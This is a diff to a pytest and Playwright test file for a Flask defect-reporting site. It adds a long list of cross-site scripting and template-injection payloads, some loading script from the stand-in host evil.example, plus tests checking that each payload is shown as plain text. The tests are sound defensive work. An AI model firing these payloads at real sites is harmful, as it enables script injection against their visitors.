@@ -2,9 +2,11 @@
 
 import uuid
 from collections.abc import Callable, Iterator
-from urllib.parse import quote
+from urllib.parse import quote, urlsplit
 
 import pytest
+from flask import Flask
+from flask.testing import FlaskClient
 from playwright.sync_api import Browser, Page, expect
 from shapely import Point
 from sqlalchemy.orm import Session
@@ -47,6 +49,42 @@ PAYLOADS = (
     "{% include '/etc/passwd' %}",
     "%(name)s %s {0.__class__}",
     "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "<svg><script>alert(1)</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<svg><a xlink:href=javascript:alert(1)><text y=9>x</text></a></svg>",
+    "<details open ontoggle=alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<select autofocus onfocus=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<isindex action=javascript:alert(1) type=image>",
+    "<button form=report formaction=//evil.example>x</button>",
+    "<img src=`x`onerror=alert(1)>",
+    "<img/src=x/onerror=alert(1)//",
+    "<IMG SRC=x OnErRoR=alert(1)>",
+    "<img src=x onerror=&#97;lert(1)>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<script/src=//evil.example/x.js></script>",
+    "<script type=module>import('//evil.example/x.js')</script>",
+    "<script type=importmap>{}</script>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea><img src=x onerror=alert(1)></textarea>",
+    "--><img src=x onerror=alert(1)><!--",
+    "]]><img src=x onerror=alert(1)>",
+    "';alert(1)//",
+    '";alert(1)//',
+    "`;alert(1)//",
+    "</style><img src=x onerror=alert(1)>",
+    "#{7*7} <%= 7*7 %> [[7*7]]",
+    "&#x3c;img src=x onerror=alert(1)&#x3e;",
+    "\u202e<img src=x onerror=alert(1)>\u202c",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
 )
 POLYGLOTS = (
     "'\"></title></script><svg onload=alert(1)><img src=x onerror=alert(1)>{{7*7}}",
@@ -65,6 +103,10 @@ ECHOES = (
     "/at?lat=52&lon=5&radius_m={}",
     "/list?bbox={}&at=52,5",
     "/report?asset={}",
+    "/report?q={}",
+    "/report?lat=52&lon=5&description={}",
+    "/report?lat=52&lon=5&category={}&key={}&city_number={}&city_reported_on={}",
+    "/defects/22-222?secret={}&new={}&named={}",
     "/assets/{}",
     "/q/{}",
     "/defects/{}",
@@ -83,16 +125,30 @@ INTRUDERS = """() => [...document.querySelectorAll(
 
 
 @pytest.fixture(scope="module")
-def hostile(make_database: Callable[[str], str]) -> Iterator[tuple[str, dict[str, list[str]]]]:
-    """A service whose every text is a payload: its origin, and the pages of each payload."""
+def service(make_database: Callable[[str], str]) -> Iterator[tuple[Flask, dict[str, list[str]]]]:
+    """A service whose every text is a payload, and the pages of each payload."""
     engine = make_engine(make_database("hostile"))
     migrate(engine, metadata())
     with Session(engine, expire_on_commit=False) as session, session.begin():
         pages = _fill(Factory(session))
-    app = create_app(Settings(background_url=""), engine=engine, clock=lambda: NOW)
-    with serve(app) as origin:
-        yield origin, pages
+    settings = Settings(background_url="", secret="for-tests-" * 5)
+    yield create_app(settings, engine=engine, clock=lambda: NOW), pages
     engine.dispose()
+
+
+@pytest.fixture(scope="module")
+def hostile(
+    service: tuple[Flask, dict[str, list[str]]],
+) -> Iterator[tuple[str, dict[str, list[str]]]]:
+    """The origin of that service, and the pages of each payload."""
+    with serve(service[0]) as origin:
+        yield origin, service[1]
+
+
+@pytest.fixture
+def reporter(service: tuple[Flask, dict[str, list[str]]]) -> FlaskClient:
+    """Whoever sends reports to it without a browser."""
+    return service[0].test_client()
 
 
 @pytest.fixture
@@ -121,7 +177,8 @@ def test_home_and_its_list_show_hostile_words_as_words(victims: Visitors) -> Non
     page.get_by_role("link", name="Terug naar de lijst").click()
     settle(page)
     shown = page.locator("#near").inner_text()
-    assert sum(payload in shown for payload in PAYLOADS) > len(PAYLOADS) / 2
+    # As many as the list is long.
+    assert sum(payload in shown for payload in PAYLOADS) >= 20
     assert page.evaluate(INTRUDERS) == []
 
 
@@ -149,11 +206,59 @@ def test_hostile_words_in_an_address_come_back_as_words_or_not_at_all(victims: V
     page = victims.enter(width=PHONE)
     for words in POLYGLOTS:
         for echo in ECHOES:
-            path = echo.format(quote(words, safe=""))
+            path = echo.replace("{}", quote(words, safe=""))
             answer = page.goto(path)
             assert answer is not None
             assert answer.status in (200, 400, 404), path
             assert page.evaluate(INTRUDERS) == [], path
+
+
+def test_sixty_payloads_sent_as_reports_come_back_as_words_on_every_page_of_theirs(
+    victims: Visitors, reporter: FlaskClient
+) -> None:
+    assert len(set(PAYLOADS)) == 60
+    page = victims.enter(width=PHONE)
+    for number, payload in enumerate(PAYLOADS):
+        body = {"lat": LAT, "lon": LON, "category": "broken", "description": payload}
+        told = {"city_number": payload[:60]}
+        sender = {"REMOTE_ADDR": f"192.0.2.{number}"}
+        answer = reporter.post("/api/v1/defects", json=body | told, environ_base=sender)
+        assert answer.status_code == 201, payload
+        secret = urlsplit(answer.get_json()["secret_url"])
+        page.goto(f"{secret.path}?{secret.query}&new=1")
+        assert _says(page, payload), payload
+        assert page.evaluate(INTRUDERS) == [], payload
+    page.goto("/mine")
+    expect(page.locator("#mine a")).to_have_count(60)
+    assert [payload for payload in PAYLOADS if not _says(page, payload)] == []
+    assert page.evaluate(INTRUDERS) == []
+
+
+@pytest.mark.parametrize("payload", [PAYLOADS[1], PAYLOADS[6], "{{7*7}}"])
+def test_hostile_words_typed_into_the_form_stay_words_when_refused_and_when_stored(
+    victims: Visitors, payload: str
+) -> None:
+    victims.allow(words="status of 400")
+    page = victims.enter(width=PHONE)
+    page.goto(f"/report?lat={LAT}&lon={LON}")
+    page.locator(".pick label").first.click()
+    page.locator("#description").fill(payload)
+    page.locator("summary").click()
+    page.locator("#city_number").fill(payload)
+    page.locator("#city_reported_on").fill("2099-01-01")
+    page.locator("#send").click()
+    expect(page.locator("#wrong-city_reported_on")).not_to_be_empty()
+    assert page.evaluate(INTRUDERS) == []
+    page.locator("#city_reported_on").fill("2026-11-01")
+    page.locator("#send").click()
+    expect(page.locator("#receipt")).to_be_visible()
+    assert _says(page, payload)
+    assert page.evaluate(INTRUDERS) == []
+    page.get_by_text("Een andere naam").click()
+    page.locator("input[name=other]").fill(payload)
+    page.get_by_role("button", name="Zo noemen wij het").click()
+    expect(page.locator("#receipt")).to_contain_text("Dank u.")
+    assert page.evaluate(INTRUDERS) == []
 
 
 def _says(page: Page, payload: str) -> bool:
@@ -222,6 +327,7 @@ def _fill_with(make: Factory, district_id: uuid.UUID, number: int, payload: str)
     defect = make.defect(
         **home,
         description=payload,
+        city_number=payload[:60],
         asset_id=asset.id,
         addressee_id=organisation.id,
         geom=stored(Point(lon, LAT)),
